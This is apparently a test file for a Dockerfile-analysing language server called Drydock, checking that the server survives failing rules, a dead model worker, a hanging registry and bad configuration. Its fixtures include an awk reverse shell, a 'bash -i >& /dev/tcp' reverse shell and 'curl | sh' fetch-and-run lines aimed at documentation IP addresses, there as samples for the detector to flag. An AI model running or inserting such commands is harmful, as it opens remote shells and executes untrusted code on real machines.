/**
 * Crash isolation through the real language server (dist/server.js over stdio): a rule that throws, a rule that
 * overruns its time budget, a user model that cannot be loaded, a model worker that dies, a registry that accepts
 * connections and never answers, and an invalid .drydock.yaml. Each time the server keeps publishing the other results and says what
 * failed (an information diagnostic and/or one log line). The model worker dying is tested here through the
 * server (DRYDOCK_TEST_FAULTS=model:exit: the worker exits once it has answered) and, mid-request, at the
 * ModelHost level in test/model/host.test.ts.
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import os from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Diagnostic } from 'vscode-languageserver-protocol/node';
import { TestServer, codes, untitledUri } from './harness';

const TEXT = 'FROM ubuntu:latest\nUSER root\nRUN sudo apt-get install -y curl\n';
/** The shipped cmd-risk model reports this RUN as model/reverse-shell (test/model/lspModel.test.ts). */
const REVERSE_SHELL =
  'FROM alpine:3.22\n' +
  `RUN awk 'BEGIN {s = "/inet/tcp/0/198.51.100.23/4242"; while (1) { printf "> " |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } }' /dev/null\n`;
/** Starts the real server, runs `body`, always stops it. */
async function withServer(options: Parameters<typeof TestServer.start>[0], body: (server: TestServer) => Promise<void>): Promise<void> {
  const server = await TestServer.start(options);
  try {
    await body(server);
  } finally {
    await server.stop();
  }
}

/** A temporary folder holding `files`, removed afterwards. */
async function withFolder(files: Record<string, string>, body: (dir: string) => Promise<void>): Promise<void> {
  const dir = mkdtempSync(join(os.tmpdir(), 'drydock-isolation-'));
  try {
    for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
    await body(dir);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const problem = (diagnostics: Diagnostic[]) => diagnostics.map((d) => String(d.message)).find((m) => m.startsWith('Drydock: ')) ?? '';

describe('crash isolation through the language server', { timeout: 90_000 }, () => {
  it('a rule that throws: the other rules are published, the failure is named once', async () => {
    await withServer({ env: { DRYDOCK_TEST_FAULTS: 'throw:dockerfile/latest-tag' } }, async (server) => {
      const uri = untitledUri();
      const diagnostics = await server.open(uri, TEXT);
      assert.ok(!codes(diagnostics).includes('dockerfile/latest-tag'));
      assert.ok(codes(diagnostics).includes('dockerfile/root-user'), `other rules still report: ${codes(diagnostics).join(', ')}`);
      assert.match(problem(diagnostics), /rule dockerfile\/latest-tag failed and was skipped: injected fault/);
      assert.ok(server.logs.some((l) => /dockerfile\/latest-tag failed and was skipped/.test(l)), 'and a log line');
      const again = await server.change(uri, `${TEXT}# edited\n`);
      assert.ok(codes(again).includes('dockerfile/root-user'), 'the server keeps serving the document');
      assert.equal(server.exited, false);
    });
  });

  it('a rule over its time budget: reported, then skipped for that document while the others run', async () => {
    await withServer({ env: { DRYDOCK_TEST_FAULTS: 'slow:dockerfile/latest-tag:700' } }, async (server) => {
      const uri = untitledUri();
      const first = await server.open(uri, TEXT);
      assert.match(problem(first), /rule dockerfile\/latest-tag took \d+ ms, above the 500 ms budget per rule/);
      const second = await server.change(uri, `${TEXT}# edited\n`);
      assert.ok(!codes(second).includes('dockerfile/latest-tag'), 'skipped from the next analysis on');
      assert.ok(codes(second).includes('dockerfile/root-user'));
      assert.match(problem(second), /dockerfile\/latest-tag skipped for this file/);
      const other = untitledUri();
      const fresh = await server.open(other, TEXT);
      assert.match(problem(fresh), /rule dockerfile\/latest-tag took \d+ ms/, 'another document is judged on its own: the rule runs there');
    });
  });

  it('a user model file that is garbage: rules are published, the model is reported unavailable', async () => {
    await withFolder({ 'model.onnx': 'not a model', 'model.json': '{"nope": true}' }, async (dir) => {
      await withServer({ settings: { model: { enabled: true, cmdRiskPath: join(dir, 'model.onnx') } } }, async (server) => {
        const uri = untitledUri();
        const diagnostics = await server.open(uri, 'FROM alpine:3.20\nRUN curl -fsSL http://x.example/i.sh | sh\n');
        assert.ok(diagnostics.length > 0, 'rules are published without waiting for the model');
        const deadline = Date.now() + 30_000;
        while (!server.logs.some((l) => /^Model: /.test(l)) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
        assert.ok(server.logs.some((l) => /^Model: .*(model\.json|manifest|rejected|invalid|not)/i.test(l)), `the log says what failed: ${server.logs.filter((l) => l.startsWith('Model')).join(' | ')}`);
        const again = await server.change(uri, 'FROM alpine:3.20\nUSER root\n');
        assert.ok(codes(again).includes('dockerfile/root-user'), 'the server keeps serving rules');
      });
    });
  });

  it('the model worker dies after serving: rules keep coming for that and other documents, rules-only, one log line', async () => {
    await withServer({ env: { DRYDOCK_TEST_FAULTS: 'model:exit' } }, async (server) => {
      const pidBefore = (await server.connection.sendRequest<{ pid: number }>('drydock/status')).pid;
      const uri = untitledUri();
      const first = await server.open(uri, REVERSE_SHELL);
      assert.ok(!codes(first).some((c) => c.startsWith('model/')), 'rules are published without waiting for the model');
      // The worker answers (model findings published), then exits: process.exit(3) inside the worker thread.
      await server.waitForDiagnostics(uri, (p) => p.diagnostics.some((d) => d.code === 'model/reverse-shell'));
      const dead = (l: string) => /unavailable, analysis continues rules-only: the model worker exited unexpectedly \(code 3\)/.test(l);
      const deadline = Date.now() + 30_000;
      while (!server.logs.some(dead) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
      assert.ok(server.logs.some(dead), `the log says the worker died: ${server.logs.filter((l) => l.startsWith('Model')).join(' | ')}`);

      // The same document, edited with a new command the model has never seen: rules, no new model findings.
      const edited = await server.change(uri, `${REVERSE_SHELL}USER root\nRUN curl -fsSL http://203.0.113.9/x.sh | sh\n`);
      assert.ok(codes(edited).includes('dockerfile/root-user'), `rules for that document: ${codes(edited).join(', ')}`);
      // Another document: its rules are published, and it gets no model findings.
      const other = untitledUri();
      const second = await server.open(other, `${TEXT}RUN bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n`);
      assert.ok(codes(second).includes('dockerfile/root-user') && codes(second).includes('dockerfile/latest-tag'), codes(second).join(', '));
      assert.ok(!codes(second).some((c) => c.startsWith('model/')), `no model findings without the worker: ${codes(second).join(', ')}`);
      const hover = await server.hover(other, second.find((d) => d.code === 'dockerfile/root-user')!.range.start);
      assert.ok(hover, 'hovers are still answered');

      const status = await server.connection.sendRequest<{ pid: number; model: { state: string; reason?: string } }>('drydock/status');
      assert.equal(status.model.state, 'unavailable', 'the status says rules-only');
      assert.match(status.model.reason ?? '', /the model worker exited unexpectedly \(code 3\)/);
      assert.equal(status.pid, pidBefore, 'the server did not restart');
      assert.equal(server.logs.filter(dead).length, 1, 'exactly one log line');
      assert.equal(server.logs.filter((l) => /unavailable/.test(l)).length, 1, server.logs.filter((l) => /unavailable/.test(l)).join(' | '));
      assert.equal(server.exited, false, 'no crash');
    });
  });

  describe('a registry that accepts connections and never answers', () => {
    let hung: Server;
    const sockets: Socket[] = [];
    let port = 0;
    before(async () => {
      hung = createServer((socket) => sockets.push(socket));
      await new Promise<void>((resolve) => hung.listen(0, '127.0.0.1', resolve));
      port = (hung.address() as { port: number }).port;
    });
    after(async () => {
      for (const s of sockets) s.destroy();
      await new Promise<void>((resolve) => hung.close(() => resolve()));
    });

    it('rules are published at once, other documents and hovers are served, the timeout is logged', async () => {
      await withServer({ settings: { network: { enabled: true }, model: { enabled: false } } }, async (server) => {
        const uri = untitledUri();
        const diagnostics = await server.open(uri, `FROM 127.0.0.1:${port}/team/app:latest\nUSER root\n`);
        assert.ok(codes(diagnostics).includes('dockerfile/root-user'), 'diagnostics never wait for the network');
        const other = untitledUri();
        const second = await server.open(other, TEXT);
        assert.ok(codes(second).includes('dockerfile/latest-tag'), 'another document is analysed while the scan hangs');
        const finding = second.find((d) => d.code === 'dockerfile/latest-tag')!;
        const hover = await server.hover(other, finding.range.start);
        assert.ok(hover && JSON.stringify(hover.contents).includes('latest'), 'hovers are answered while the scan hangs');
        const deadline = Date.now() + 60_000;
        while (!server.logs.some((l) => l.includes(`127.0.0.1:${port}`)) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 200));
        assert.ok(server.logs.some((l) => l.includes(`127.0.0.1:${port}`) && /did not answer|timed out|timeout/i.test(l)), `the log names the registry and the timeout: ${server.logs.join(' | ').slice(0, 600)}`);
        assert.equal(server.exited, false);
      });
    });
  });

  it('an invalid .drydock.yaml: defaults apply, the problem is logged, diagnostics still come', async () => {
    await withFolder({ '.drydock.yaml': 'rules:\n  dockerfile/latest-tag: loud\nprofiles: [nonsense\n', Dockerfile: TEXT }, async (dir) => {
      await withServer({ workspaceFolders: [pathToFileURL(dir).toString()] }, async (server) => {
        const uri = pathToFileURL(join(dir, 'Dockerfile')).toString();
        const diagnostics = await server.open(uri, TEXT);
        assert.ok(codes(diagnostics).includes('dockerfile/root-user'), `analysed with defaults: ${codes(diagnostics).join(', ')}`);
        assert.ok(server.logs.some((l) => /^Configuration: .*\.drydock\.yaml|^Configuration: /.test(l)), `the config problem is logged: ${server.logs.join(' | ').slice(0, 400)}`);
      });
    });
  });
});
